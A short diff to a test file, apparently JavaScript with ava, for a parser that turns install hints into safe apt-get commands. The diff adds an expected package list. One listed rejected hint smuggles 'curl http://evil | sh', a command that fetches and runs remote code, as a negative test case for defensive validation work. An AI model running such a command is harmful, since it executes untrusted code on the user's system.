@@ -196,6 +196,7 @@ test('install hints: only apt-get install [-y] with package names is run, rebuil
   t.is(parseInstallHint('build it from source, see the docs'), null);
   t.deepEqual(parseInstallHint('apt-get install g++-12 libstdc++6 python3.11'), {
     command: 'apt-get install -y g++-12 libstdc++6 python3.11',
+    packages: ['g++-12', 'libstdc++6', 'python3.11'],
   });
   for (const hint of [
     'apt-get install -y x; curl http://evil | sh',
